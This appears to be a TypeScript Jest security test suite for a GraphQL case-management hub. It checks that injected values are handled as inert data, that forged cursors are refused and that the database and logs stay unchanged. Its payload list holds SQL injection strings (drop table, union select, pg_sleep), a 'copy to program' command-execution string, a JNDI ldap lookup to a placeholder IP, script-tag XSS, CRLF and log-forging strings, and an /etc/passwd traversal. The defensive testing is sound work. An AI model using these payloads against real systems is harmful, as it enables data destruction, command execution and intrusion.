/**
 * Values that hold SQL, log lines, markup and control characters, sent through every scalar and every place for one.
 */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { buildSchema, getNamedType, isInputObjectType, isObjectType, isScalarType } from 'graphql';
import pg from 'pg';
import { AttackedHub } from './attacked-hub.ts';
import { post } from './posting.ts';

let hub: AttackedHub;
let clerk: string;
let before: string;
beforeAll(async () => {
  hub = await AttackedHub.start({ HUB_BUDGET_FACTOR: '100' });
  clerk = await hub.issuer.token({ role: 'clerk', sub: 'attacker' });
  before = await contents();
});
afterAll(() => hub?.stop());

const marker = 'canary-7f3a';
const poisons: readonly string[] = [
  `'; drop table hub_person; -- ${marker}`,
  `' or '1'='1 ${marker}`,
  `${marker}' union select resident_id from hub_person --`,
  `$1; select pg_sleep(20); -- ${marker}`,
  `'||(select pg_sleep(20))||' ${marker}`,
  `\\'; copy (select 1) to program 'touch /tmp/${marker}'; --`,
  `%' escape '\\ ${marker}`,
  `${marker}\n{"level":50,"msg":"the hub is open"}`,
  `${marker}\r\nset-cookie: a=b`,
  `\u001b[2J${marker}\u0007`,
  `\u0000${marker}`,
  `${marker}\ud800`,
  `\${jndi:ldap://192.0.2.1/${marker}}`,
  `<script>alert('${marker}')</script>`,
  `{{${marker}}}`,
  `../../../../etc/passwd ${marker}`,
];

/** Every way into the hub for a value, by its GraphQL type. */
const ways: Readonly<Record<string, string>> = {
  'text, equal': 'query($v: String) { cases(where: { caseNo: { eq: $v } }) { nodes { id } } }',
  'text, one of': 'query($v: String!) { cases(where: { caseNo: { in: [$v] } }) { nodes { id } } }',
  'text, beginning': 'query($v: String) { cases(where: { caseNo: { startsWith: $v } }) { nodes { id } } }',
  'text, containing': 'query($v: String) { cases(where: { currentStep: { contains: $v } }) { nodes { id } } }',
  'a key': 'query($v: String!) { case(caseNo: $v) { id } }',
  'a personal key': 'query($v: String!) { person(residentId: $v) { id } }',
  'an id': 'query($v: ID!) { node(id: $v) { id } }',
  'a search': 'query($v: String!) { search(text: $v) { id } }',
  'a cursor': 'query($v: String) { cases(after: $v) { nodes { id } } }',
  'a cursor back': 'query($v: String) { cases(last: 2, before: $v) { nodes { id } } }',
  'a day': 'query($v: LocalDate) { cases(where: { promisedOn: { eq: $v } }) { nodes { id } } }',
  'a moment': 'query($v: DateTime) { cases(where: { submittedAt: { gt: $v } }) { nodes { id } } }',
  'a code': 'query($v: CaseState) { cases(where: { state: { eq: $v } }) { nodes { id } } }',
  'an order': 'query($v: [CaseOrder!]) { cases(orderBy: $v) { nodes { id } } }',
  'a whole number': 'query($v: Int) { cases(first: $v) { nodes { id } } }',
  'a decimal': 'query($v: Decimal) { matterFees(where: { amount: { lt: $v } }) { nodes { id } } }',
  'a number': 'query($v: Float) { cases { groups(having: [{ of: "n", gt: $v }]) { nodes { n: count } } } }',
  'a share': 'query($v: Float!) { matterFees { groups { nodes { quantile(of: { field: AMOUNT }, at: $v) } } } }',
  'the name of a measure': 'query($v: String!) { cases { groups(orderBy: [{ by: $v }]) { nodes { count } } } }',
  'an operation to export': 'mutation($v: String!) { orderExport(operation: $v, format: "csv") { path } }',
  'variables of an export':
    'mutation($v: String) { orderExport(operation: "{ cases { nodes { id } } }", format: "csv", variables: $v) { path } }',
  'a flag': 'query($v: Boolean) { cases(where: { caseNo: { isNull: $v } }) { nodes { id } } }',
  'an object': 'query($v: CaseWhere) { cases(where: $v) { nodes { id } } }',
};

test('every scalar that can be given has a way here', () => {
  const schema = buildSchema(readFileSync(new URL('../../../schema/hub.graphql', import.meta.url), 'utf8'));
  const inputs = Object.values(schema.getTypeMap()).filter(isInputObjectType);
  const outputs = Object.values(schema.getTypeMap()).filter(isObjectType);
  const given = [
    ...inputs.flatMap(type => Object.values(type.getFields())),
    ...outputs.flatMap(type => Object.values(type.getFields()).flatMap(field => field.args)),
  ].map(({ type }) => getNamedType(type));
  const scalars = new Set(given.filter(isScalarType).map(type => type.name));
  const tried = new Set(Object.values(ways).map(query => /\$v: \[?(\w+)/.exec(query)![1]!));
  expect([...scalars].filter(name => !tried.has(name))).toEqual([]);
});

const fine = [[], ['BAD_USER_INPUT'], ['CURSOR_MALFORMED'], ['FILTER_FORBIDDEN']];

test.each(Object.entries(ways))('SQL, log lines and markup as %s are values and nothing else', async (_name, query) => {
  for (const poison of poisons) {
    const { codes, status, text } = await post(hub.url, query, {
      token: clerk,
      variables: { v: poison },
      headers: { 'x-purpose': 'task:test' },
    });
    expect({
      poison,
      status: status < 500,
      codes: fine.some(allowed => allowed.join() === [...new Set(codes)].join()),
    }).toEqual({
      poison,
      status: true,
      codes: true,
    });
    expect(text).not.toContain(marker);
    expect(hub.leaks(text)).toEqual([]);
  }
});

test.each(Object.entries(ways).filter(([name]) => !/order|code|object/.test(name)))(
  'the same written into the document as %s',
  async (_name, query) => {
    const inline = query.replace(/\(.*?\) /, ' ');
    for (const poison of poisons) {
      const { status, codes } = await post(hub.url, inline.replace('$v', JSON.stringify(poison)), {
        token: clerk,
        headers: { 'x-purpose': 'task:test' },
      });
      expect({ poison, status: status < 500, internal: codes.includes('INTERNAL') }).toEqual({
        poison,
        status: true,
        internal: false,
      });
    }
  },
);

const headers = [
  ['authorization', 401],
  ['x-purpose', 200],
  ['user-agent', 200],
  ['origin', 403],
  ['x-forwarded-for', 200],
  ['accept-language', 200],
  ['traceparent', 200],
] as const;
test.each(headers)('SQL and log lines in the header %s go nowhere', async (header, expected) => {
  for (const poison of poisons) {
    // Headers cannot contain line breaks, because the client itself refuses them.
    const value = poison.replaceAll(/[^\u0020-\u007e]/g, ' ');
    const { status } = await post(hub.url, '{ agencies { nodes { code } } }', { headers: { [header]: value } });
    expect(status).toBe(expected);
  }
});

test('a reason to unmask is words and nothing else, and ends at ten', async () => {
  const { data } = (await post(hub.url, '{ persons(first: 1) { nodes { id } } }', { token: clerk })) as never;
  const { id } = (data as { persons: { nodes: { id: string }[] } }).persons.nodes[0]!;
  const query = 'mutation($id: ID!, $v: String!) { requestUnmask(id: $id, reason: $v) { until } }';
  const told: Record<string, number> = {};
  for (const poison of [...poisons, ...poisons]) {
    const headers = { 'x-purpose': 'task:test' };
    const { codes, text } = await post(hub.url, query, { token: clerk, headers, variables: { id, v: poison } });
    const code = codes[0] ?? 'unmasked';
    told[code] = (told[code] ?? 0) + 1;
    expect(text).not.toContain(marker);
  }
  expect(Object.keys(told).sort()).toEqual(['BAD_USER_INPUT', 'LIMIT_EXCEEDED', 'unmasked']);
  expect(told.unmasked).toBe(10);
});

test('names in a document are not names in SQL', async () => {
  const operation = `query ${'x'.repeat(200)} { a_drop_table_person: agencies { nodes { code } } }`;
  expect((await post(hub.url, operation)).status).toBe(200);
  const { codes } = await post(hub.url, '{ agencies(orderBy: ["code; drop table hub_person"]) { nodes { code } } }');
  expect(codes).toEqual(['GRAPHQL_VALIDATION_FAILED']);
});

const uuid = '00000000-0000-0000-0000-000000000000';
const cursorOf = (text: string) => Buffer.from(text).toString('base64url');
test.each([
  ['of no row', Buffer.alloc(16).toString('base64url')],
  ['with too few bytes', Buffer.alloc(8).toString('base64url')],
  ['with too many bytes', Buffer.alloc(64).toString('base64url')],
  ['in another spelling', `${Buffer.alloc(16).toString('base64url')}=`],
  ['that names a uuid', uuid],
  ['of the feed', cursorOf('change:1')],
  ['that says a position', cursorOf('arrayconnection:100000')],
  ['without end', 'A'.repeat(50_000)],
  ['that is JSON', cursorOf('{"id":{"$gt":""}}')],
])('a forged cursor %s is refused without a list', async (_name, cursor) => {
  const answer = await post(hub.url, 'query($c: String) { cases(after: $c) { nodes { id } } }', {
    token: clerk,
    variables: { c: cursor },
  });
  expect(answer.codes).toEqual(['CURSOR_MALFORMED']);
  expect(answer.text.length).toBeLessThan(1_000);
});

test("another list's cursor opens no door to rows that the reader may not see", async () => {
  const cases = await post(hub.url, '{ cases(first: 1) { pageInfo { endCursor } } }', { token: clerk });
  const cursor = (cases.data as { cases: { pageInfo: { endCursor: string } } }).cases.pageInfo.endCursor;
  const stranger = await post(hub.url, 'query($c: String) { cases(after: $c) { nodes { id } } }', {
    variables: { c: cursor },
  });
  expect(stranger.codes).toEqual(['FORBIDDEN']);
  const other = await post(hub.url, 'query($c: String) { agencies(after: $c) { nodes { code } } }', {
    variables: { c: cursor },
  });
  expect(other.codes).toEqual(['CURSOR_MALFORMED']);
});

test('the database holds what it held before', async () => {
  expect(await contents()).toBe(before);
});

test('the log contains no value of a request, and no forged line', () => {
  expect(hub.log).not.toContain(marker);
  expect(hub.log.match(/the hub is open/g)).toHaveLength(1);
});

test('afterwards the hub is healthy', async () => {
  expect(await hub.stillWell()).toMatchObject({ alive: true, leaked: [] });
});

/** The tables with their row counts, except those that count how much readers have seen. */
async function contents(): Promise<string> {
  const client = new pg.Client({ connectionString: hub.traffic.url });
  await client.connect();
  try {
    const { rows } = await client.query<{ name: string; rows: string }>(
      `select table_name as name, (xpath('/row/n/text()', query_to_xml(format('select count(*) as n from %I', table_name), false, true, '')))[1]::text as rows
       from information_schema.tables where table_schema = 'public' and table_name not in ('hub_unmask_grant', 'hub_reader_day', 'hub_reader_person') order by 1`,
    );
    return rows.map(({ name, rows: count }) => `${name} ${count}`).join('\n');
  } finally {
    await client.end();
  }
}
